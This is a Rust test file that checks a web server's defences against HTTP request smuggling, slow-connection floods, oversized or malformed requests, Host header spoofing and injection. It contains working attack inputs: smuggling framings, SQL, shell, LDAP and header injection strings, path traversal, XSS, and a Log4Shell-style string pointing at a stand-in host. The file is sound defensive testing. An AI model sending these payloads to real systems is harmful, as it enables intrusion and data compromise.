//! Rows 12, 70 and 80: requests that no good client sends. Each gets a clear refusal, none gets to anybody else, and
//! the server goes on.

use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use bowerbird_testkit::http_client::{TestRequest, send_raw};
use rustix::process::{Resource, getrlimit};
use serde_json::{Value, json};
use tokio::io::AsyncWriteExt as _;
use tokio::net::TcpStream;

use crate::pace::{Burden, assert_others_do_not_wait};
use crate::support::{House, Must as _, options, refusal};

const ECHO: &str = "/xrpc/app.example.echo";

#[tokio::test(flavor = "multi_thread")]
async fn row_70_no_second_request_is_smuggled_past_the_first() {
    let house = House::open().await;
    let alice = house.network.add_account("alice.test");
    let seal = house.signed_in(&alice).await.seal().unwrap();
    house.network.clear_logs();
    let head = format!("POST {ECHO} HTTP/1.1\r\nHost: {}\r\nAuthorization: Bearer {seal}\r\n", house.server.host());
    let smuggled = format!(
        "POST /xrpc/app.example.smuggled HTTP/1.1\r\nHost: {}\r\nAuthorization: Bearer {seal}\r\nContent-Length: 0\r\n\r\n",
        house.server.host()
    );
    let length = smuggled.len();
    let (cl, te) = (format!("Content-Length: {}\r\n", length + 5), "Transfer-Encoding: chunked\r\n");
    let chunks = format!("0\r\n\r\n{smuggled}");
    let wrapped = format!("{length:x}\r\n{smuggled}\r\n0\r\n\r\n");
    let ordinary = format!("{head}Content-Length: 0\r\n\r\n");
    // Which of them a reader believes decides where the next request begins: none of it is passed on.
    let both: [(&str, String); 11] = [
        ("CL.TE", format!("{head}{cl}{te}\r\n{chunks}")),
        ("TE.CL", format!("{head}{te}Content-Length: 4\r\n\r\n{wrapped}")),
        ("CL 0, TE", format!("{head}Content-Length: 0\r\n{te}\r\n{chunks}")),
        ("TE, CL 0", format!("{head}{te}Content-Length: 0\r\n\r\n{chunks}")),
        ("CL, CL, TE", format!("{head}{cl}{cl}{te}\r\n{chunks}")),
        ("TE, CL, CL", format!("{head}{te}{cl}{cl}\r\n{chunks}")),
        ("CL, TE, CL", format!("{head}{cl}X-A: 1\r\n{te}{cl}\r\n{chunks}")),
        ("TE, CL, TE", format!("{head}{te}{cl}{te}\r\n{chunks}")),
        ("other case", format!("{head}tRANSFER-eNCODING:chunked\r\ncONTENT-lENGTH:4\r\n\r\n{wrapped}")),
        ("no number", format!("{head}{te}Content-Length: x\r\n\r\n{chunks}")),
        ("TE, TE", format!("{head}{te}{te}\r\n{chunks}")),
    ];
    for (name, bytes) in &both {
        let answer = house.raw(bytes.as_bytes()).await;
        let text = answer.text();
        assert_eq!((answer.status(), answer.answers(), answer.closed), (Some(400), 1, true), "{name}: {text}");
        assert!(text.contains("framing_unclear") && text.contains("connection: close\r\n"), "{name}: {text}");
        // The second request of a connection is looked at as the first one is.
        let answer = house.raw(format!("{ordinary}{bytes}").as_bytes()).await;
        let text = answer.text();
        assert_eq!((answer.status(), answer.answers(), answer.closed), (Some(200), 2, true), "{name}: {text}");
        assert_eq!(text.matches("bowerbird-error: framing_unclear").count(), 1, "{name}: {text}");
    }
    assert_eq!(house.network.pds().calls("app.example.echo"), both.len(), "only the ordinary requests went on");
    assert_eq!(house.network.requests().len(), both.len(), "and nothing else did");
    let refused: [(&str, String); 14] = [
        ("CL.CL", format!("{head}Content-Length: 0\r\nContent-Length: {length}\r\n\r\n{smuggled}")),
        ("CL, CL", format!("{head}Content-Length: 0, {length}\r\n\r\n{smuggled}")),
        ("signed CL", format!("{head}Content-Length: +{length}\r\n\r\n{smuggled}")),
        ("negative CL", format!("{head}Content-Length: -1\r\n\r\n{smuggled}")),
        ("hex CL", format!("{head}Content-Length: 0x10\r\n\r\n{smuggled}")),
        (
            "TE twice",
            format!("{head}Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n{smuggled}"),
        ),
        ("TE unknown", format!("{head}Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n{smuggled}")),
        ("TE not last", format!("{head}Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n{smuggled}")),
        ("TE in 1.0", format!("{}Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n{smuggled}", head.replace("1.1", "1.0"))),
        ("obs-fold", format!("{head}X-A: 1\r\n Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n{smuggled}")),
        ("space before colon", format!("{head}Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n{smuggled}")),
        ("bad chunk size", format!("{head}Transfer-Encoding: chunked\r\n\r\nzz\r\n{smuggled}")),
        ("giant chunk size", format!("{head}Transfer-Encoding: chunked\r\n\r\nfffffffffffffffff\r\n{smuggled}")),
        ("bare CR", format!("{head}X-A: 1\rTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{smuggled}")),
    ];
    for (name, bytes) in &refused {
        let answer = house.raw(bytes.as_bytes()).await;
        let text = answer.text();
        assert!(matches!(answer.status(), Some(400)), "{name}: {text}");
        assert!(answer.closed, "{name}: the connection stays open: {text}");
        assert!(answer.answers() <= 1, "{name}: {text}");
    }
    assert_eq!(house.network.pds().calls("app.example.smuggled"), 0, "a second request got through");
    for call in house.network.pds().server().log().all() {
        // The server looks for a good nonce before a body that it could not send twice.
        let expected = call.path() == ECHO || call.target == "/xrpc/com.atproto.server.getSession";
        assert!(expected, "{}", call.transcript());
    }
    // Two readers may differ on these without harm, as long as the second request is only read as one.
    for (name, bytes) in [
        ("bare LF", format!("{head}Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n").replace("\r\n", "\n")),
        ("chunk extension", format!("{head}Transfer-Encoding: chunked\r\nConnection: close\r\n\r\n0;a=\"b\"\r\n\r\n")),
        ("giant extension", format!("{head}Transfer-Encoding: chunked\r\n\r\n0;{}\r\n\r\n", "a".repeat(200_000))),
    ] {
        let answer = house.raw(bytes.as_bytes()).await;
        assert!(answer.answers() <= 1 && answer.closed, "{name}: {}", answer.text());
    }
    // Pipelined requests are two, and each needs its own credential.
    let (first, second) = (format!("{head}Content-Length: 0\r\n\r\n"), "GET /api/accounts HTTP/1.1\r\n");
    let bytes = format!("{first}{second}Host: {}\r\nConnection: close\r\n\r\n", house.server.host());
    let text = house.raw(bytes.as_bytes()).await.text();
    assert!(text.contains(" 200 ") && text.contains(" 401 "), "{text}");
    house.assert_sound().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn row_80_slow_clients_are_let_go_and_others_do_not_wait() {
    let house = House::open().await;
    let before = house.server.rss_bytes();
    let mut slow = Vec::new();
    for number in 0..500 {
        #[expect(clippy::disallowed_methods, reason = "the test's own client; it calls loopback only")]
        let mut stream = TcpStream::connect(house.server.address()).await.unwrap();
        let start: &[u8] = match number % 4 {
            0 => b"",
            1 => b"G",
            2 => b"GET /health HTTP/1.1\r\nHost: x",
            _ => b"POST /api/accounts HTTP/1.1\r\nHost: x\r\nContent-Length: 9\r\n",
        };
        stream.write_all(start).await.unwrap();
        slow.push(stream);
    }
    for _ in 0..20 {
        let asked = house.server.client();
        let url = house.server.url("/health");
        let answered = tokio::time::timeout(Duration::from_secs(1), asked.get(&url)).await;
        answered.expect("others wait for the slow ones").must_be(200);
    }
    let grown = house.server.rss_bytes().saturating_sub(before);
    assert!(grown < 32 * 1024 * 1024, "500 slow connections cost {grown} bytes");
    // One byte now and then does not keep a head alive: the limit is on the whole of it.
    let begun = slow.len();
    for second in 0..14 {
        tokio::time::sleep(Duration::from_secs(1)).await;
        for stream in &mut slow {
            let _gone = stream.write_all(b"a").await;
        }
        if second > 8 && house.server.open_files() < begun / 2 {
            break;
        }
    }
    house.until("the slow ones are let go", || house.server.open_files() < 100).await;
    house.assert_sound().await;
}

/// Silent connections, and clients that send what is too large, too deep or an injection.
struct Siege<'a> {
    house: &'a House,
    connections: usize,
    silent: Vec<TcpStream>,
    attackers: tokio::task::JoinSet<()>,
    refused: Arc<AtomicUsize>,
    before: usize,
    seal: String,
}

impl Siege<'_> {
    /// Sends each of these again and again, with a pause.
    fn attack(&mut self, requests: Vec<Vec<u8>>) {
        let (address, refused) = (self.house.server.address(), Arc::clone(&self.refused));
        self.attackers.spawn(async move {
            for request in requests.iter().cycle() {
                let answer = send_raw(address, &[request], Duration::ZERO, Duration::from_secs(2)).await.unwrap();
                assert!(matches!(answer.status(), Some(400 | 429 | 431) | None), "{}", answer.text());
                refused.fetch_add(usize::from(answer.status().is_some()), Ordering::Relaxed);
                tokio::time::sleep(Duration::from_millis(10)).await;
            }
        });
    }
}

impl Burden for Siege<'_> {
    async fn begin(&mut self) {
        self.before = self.refused.load(Ordering::Relaxed);
        for _ in 0..self.connections {
            #[expect(clippy::disallowed_methods, reason = "the test's own client; it calls loopback only")]
            self.silent.push(TcpStream::connect(self.house.server.address()).await.unwrap());
        }
        self.house.until("all are connected", || self.house.server.open_files() >= self.connections).await;
        let start = |line: &str, more: &str| {
            let (host, seal) = (self.house.server.host(), &self.seal);
            format!(
                "{line} HTTP/1.1\r\nHost: {host}\r\nAuthorization: Bearer {seal}\r\nConnection: close\r\n{more}\r\n"
            )
        };
        let large = start("GET /health", &format!("X-A: {}\r\n", "a".repeat(70_000)));
        let deep = "[".repeat(15_000);
        let deep = start(
            "POST /api/accounts",
            &format!("Content-Type: application/json\r\nContent-Length: {}\r\n", deep.len()),
        ) + &deep;
        let injected = INJECTIONS.iter().map(|injection| {
            let encoded: String = url::form_urlencoded::byte_serialize(injection.as_bytes()).collect();
            start(&format!("GET /xrpc/{encoded}"), "").into_bytes()
        });
        let injected = injected.collect();
        self.attack(vec![large.into_bytes()]);
        self.attack(vec![deep.into_bytes()]);
        self.attack(injected);
    }

    async fn end(&mut self) {
        while let Some(attacker) = self.attackers.try_join_next() {
            attacker.unwrap();
        }
        self.attackers.shutdown().await;
        let refused = self.refused.load(Ordering::Relaxed) - self.before;
        assert!(refused >= 5, "{refused} attacks were refused");
        assert!(self.house.server.open_files() >= self.connections, "silent connections were let go too early");
        self.silent.clear();
        self.house.until("all are gone", || self.house.server.open_files() < 100).await;
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn row_80_others_do_not_wait_for_a_siege() {
    let house = House::open().await;
    let alice = house.network.add_account("alice.test");
    let seal = house.signed_in(&alice).await.seal().unwrap();
    let app = house.server.app(&seal);
    // The server has the same limit as this process: both must have room for all of them.
    let room = getrlimit(Resource::Nofile).current.map_or(2000, |most| most.saturating_sub(300));
    let connections = usize::try_from(room).unwrap().min(2000);
    let (attackers, refused) = <_>::default();
    let mut siege = Siege { house: &house, connections, silent: Vec::new(), attackers, refused, before: 0, seal };
    assert_others_do_not_wait(&app, 2.0, &mut siege).await;
    house.assert_sound().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn row_80_oversized_and_malformed_requests_are_refused_by_size_and_form() {
    let house = House::open().await;
    let alice = house.network.add_account("alice.test");
    let app = house.server.app(&house.signed_in(&alice).await.seal().unwrap());
    house.network.clear_logs();
    let host = house.server.host();
    let heads: [(&str, String); 4] = [
        ("one long header", format!("X-A: {}\r\n", "a".repeat(70_000))),
        ("many long headers", format!("X-A: {}\r\n", "a".repeat(1000)).repeat(70)),
        ("many short headers", "X: y\r\n".repeat(500)),
        ("a long cookie", format!("Cookie: sid={}\r\n", "a".repeat(70_000))),
    ];
    for (name, headers) in heads {
        let answer = house.raw(format!("GET /health HTTP/1.1\r\nHost: {host}\r\n{headers}\r\n").as_bytes()).await;
        assert_eq!((answer.status(), answer.closed), (Some(431), true), "{name}: {}", answer.text());
    }
    let long = format!("GET /{} HTTP/1.1\r\nHost: {host}\r\n\r\n", "a".repeat(100_000));
    let answer = house.raw(long.as_bytes()).await;
    assert!(matches!(answer.status(), Some(414 | 431)), "{}", answer.text());
    for garbage in [&b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"[..], b"\0\0\0\0", b"GET\r\n\r\n", b"\r\n\r\n\r\n"]
    {
        let answer = send_raw(house.server.address(), &[garbage], Duration::ZERO, Duration::from_millis(500)).await;
        let answer = answer.unwrap();
        assert!(matches!(answer.status(), Some(400 | 505) | None), "{}", answer.text());
    }
    let url = app.url("/api/accounts");
    let send =
        |body: String| app.send(TestRequest::new("POST", &url).header("content-type", "application/json").body(body));
    send(format!("{{\"handle\":\"{}\"}}", "a".repeat(1024 * 1024))).await.must_refuse(413, "body_too_large");
    send("[".repeat(15_000)).await.must_refuse(400, "invalid_json");
    send(format!("{}1{}", "{\"handle\":".repeat(1000), "}".repeat(1000))).await.must_refuse(400, "invalid_json");
    for bad in [
        "",
        "{",
        "null",
        "[]",
        "\"x\"",
        "{\"handle\":7}",
        "{\"handle\":null}",
        "{\"handle\":\"a\"",
        "\u{feff}{}",
        "{}x",
    ] {
        send(bad.to_owned()).await.must_refuse(400, "invalid_json");
    }
    send("{\"handle\":\"alice.test\",\"handle\":\"bob.test\"}".to_owned()).await.must_refuse(400, "invalid_json");
    for bad in [b"{\"handle\":\"\xff\"}".to_vec(), b"\xff\xfe{\0}\0".to_vec()] {
        let request = TestRequest::new("POST", &url).header("content-type", "application/json").body(bad);
        app.send(request).await.must_refuse(400, "invalid_json");
    }
    let request = TestRequest::new("POST", &url).header("content-type", "text/plain").body("{}");
    app.send(request).await.must_refuse(415, "unsupported_media_type");
    assert!(house.network.requests().is_empty(), "none of it made us call anybody");
    house.assert_sound().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn rows_18_and_80_a_request_for_another_host_is_misdirected() {
    let house = House::open().await;
    let ours = house.server.host();
    for (hosts, status) in [
        (vec!["evil.example"], 421),
        (vec!["localhost"], 421),
        (vec!["127.0.0.1"], 421),
        (vec![""], 421),
        (vec!["a@127.0.0.1"], 421),
        (vec![&ours, "evil.example"], 400),
        (vec![&ours, &ours], 400),
        (vec![], 400),
    ] {
        let lines = hosts.iter().fold(String::new(), |lines, host| lines + "Host: " + host + "\r\n");
        let bytes = format!("GET /oauth-client-metadata.json HTTP/1.1\r\n{lines}Connection: close\r\n\r\n");
        let answer = house.raw(bytes.as_bytes()).await;
        assert_eq!(answer.status(), Some(status), "{hosts:?}: {}", answer.text());
        assert!(!answer.text().contains("evil.example"), "{}", answer.text());
    }
    let url = house.server.url("/oauth-client-metadata.json");
    let plain = house.server.client().get(&url).await.expect_status(200);
    for (name, value) in
        [("x-forwarded-host", "evil.example"), ("x-forwarded-proto", "https"), ("x-host", "evil.example")]
    {
        let answer = house.server.client().send(TestRequest::get(&url).header(name, value)).await;
        assert_eq!(answer.body, plain.body, "{name} changes nothing");
    }
    house.assert_sound().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn rows_12_and_80_other_paths_and_methods_change_nothing() {
    let house = House::open().await;
    let alice = house.network.add_account("alice.test");
    let mut visitor = house.server.visitor();
    let callback = house.approved(&mut visitor, &alice.did).await;
    house.network.clear_logs();
    for method in ["HEAD", "OPTIONS", "POST", "PUT", "DELETE", "PATCH", "TRACE", "CONNECT", "PROPFIND", "FOO"] {
        for path in [&callback, &house.server.url("/login?handle=alice.test")] {
            if method == "POST" && path.contains("/login") || method == "CONNECT" {
                continue;
            }
            let answer = visitor.send(TestRequest::new(method, path)).await;
            assert!(matches!(answer.status, 405 | 204), "{method} {path}: {}", answer.status);
            assert_eq!((answer.header("location"), answer.header("set-cookie")), (None, None), "{method} {path}");
        }
    }
    for path in
        ["/nothing", "/api", "/api/", "/xrpc", "/.env", "/.git/config", "/admin", "/metrics", "/assets/../x", "//"]
    {
        let answer = house.server.client().get(&house.server.url(path)).await;
        assert!(matches!(answer.status, 400 | 404), "{path}: {}", answer.status);
        assert!(answer.header("bowerbird-error").is_some(), "{path}");
    }
    for (method, path) in [
        ("POST", "/api/auth/session"),
        ("GET", "/api/auth/logout"),
        ("PUT", "/api/accounts"),
        ("DELETE", "/xrpc/a.b.c"),
    ] {
        let answer = house.server.client().send(TestRequest::new(method, &house.server.url(path))).await;
        assert_eq!(refusal(&answer), (405, "method_not_allowed".to_owned()), "{method} {path}");
        assert!(answer.header("allow").is_some(), "{method} {path}");
    }
    assert!(house.network.requests().is_empty());
    visitor.finish_login(&callback).await.must_be(303);
    house.assert_sound().await;
}

/// What injections look like, for every field that takes text.
const INJECTIONS: [&str; 24] = [
    "' OR '1'='1",
    "'; DROP TABLE accounts; --",
    "\" OR \"\"=\"",
    "a\r\nX-Injected: 1",
    "a\nERROR forged log line",
    "\u{1b}[31mred\u{1b}[0m",
    "{tag}",
    "{{7*7}}",
    "${jndi:ldap://evil.example/x}",
    "%s%n%x",
    "\0",
    "a\0.test",
    "<script>alert(1)</script>",
    "\u{202e}tset ecila",
    "../../etc/passwd",
    "$(id)",
    "`id`",
    "did:plc:' OR 1=1",
    "did:web:localhost%3A1",
    "did:plc:../../x",
    "@@alice.test",
    "alice.test@evil.example",
    "*)(uid=*",
    "\u{feff}",
];

#[tokio::test(flavor = "multi_thread")]
async fn row_80_injections_are_refused_and_log_lines_stay_whole() {
    let network = bowerbird_testkit::fault::FaultNetwork::start().await;
    let logged = options(&network).env("BOWERBIRD_LOG", "trace").env("BOWERBIRD_LOG_FORMAT", "json");
    let house = House::with(network, logged).await;
    let alice = house.network.add_account("alice.test");
    let mut visitor = house.signed_in(&alice).await;
    house.network.clear_logs();
    let giant = "a".repeat(2048);
    for injection in INJECTIONS.iter().chain([&giant.as_str()]) {
        let mut other = house.server.visitor();
        let answer = house.start(&mut other, injection).await;
        assert!(matches!(answer.status, 400), "{injection:?}: {} {}", answer.status, answer.text());
        assert!(answer.header("x-injected").is_none() && !answer.text().contains("<script>alert"));
        let query = url::form_urlencoded::Serializer::new(String::new())
            .append_pair("handle", "alice.test")
            .append_pair("redirect", injection)
            .append_pair("prompt", injection)
            .finish();
        let answer = house.open_page(&mut other, &format!("/login?{query}")).await;
        assert_eq!(answer.status, 400, "{injection:?}: an unknown prompt");
        visitor.post("/api/accounts", &json!({"handle": injection})).await.must_be(400);
        let encoded: String =
            url::form_urlencoded::byte_serialize(injection.as_bytes()).collect::<String>().replace('+', "%20");
        visitor.post(&format!("/api/accounts/{encoded}/activate"), &json!({})).await.must_be(404);
        visitor.delete(&format!("/api/accounts/{encoded}")).await.must_be(404);
        let answer = visitor.get(&format!("/xrpc/{encoded}")).await;
        assert_eq!(refusal(&answer), (400, "invalid_method".to_owned()), "{injection:?}");
        let answer = visitor.get(&format!("/oauth/callback?state={encoded}&code={encoded}&iss={encoded}")).await;
        answer.must_be(400);
        if injection.bytes().all(|byte| (b' '..=b'~').contains(&byte)) {
            let request = TestRequest::get(&visitor.url("/xrpc/app.example.echo"));
            let request = request.header("bowerbird-account", injection).header("user-agent", injection);
            visitor.send(request.header("x-request-id", injection)).await.must_be(404);
        }
    }
    let sent = house.network.requests();
    let hosts: Vec<&str> = sent.iter().map(bowerbird_testkit::fault::RecordedRequest::path).collect();
    assert!(sent.is_empty(), "none of it made us call anybody: {hosts:?}");
    assert_eq!(house.accounts(), [(alice.did.clone(), "ok".to_owned())]);
    visitor.session().await.must_be(200);
    let log = house.server.stderr().text();
    let lines: Vec<&str> = log.lines().collect();
    assert!(lines.len() > 100, "{} lines at level trace", lines.len());
    for line in lines {
        let parsed: Result<Value, _> = serde_json::from_str(line);
        assert!(parsed.is_ok_and(|entry| entry["level"].is_string()), "no whole entry: {line:?}");
        assert!(line.bytes().all(|byte| byte >= b' '), "a control character in {line:?}");
    }
    house.assert_sound().await;
}
